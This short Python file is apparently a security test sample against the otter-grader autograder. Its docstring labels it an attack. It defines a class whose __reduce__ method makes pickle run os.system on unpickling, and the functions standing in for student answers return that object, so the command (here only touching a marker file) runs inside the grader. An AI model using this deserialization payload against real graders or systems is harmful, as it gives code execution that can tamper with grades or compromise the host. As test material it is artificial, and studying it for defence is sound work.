"""Attack: return an object whose unpickling would run code in the grader (otter-grader's pickled results)."""

import os

MARKER = "__MARKER__"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}/unpickled",))


def step(x):
    return Payload()


def bipolar_step(x):
    import numpy as np

    return np.array([Payload()], dtype=object)
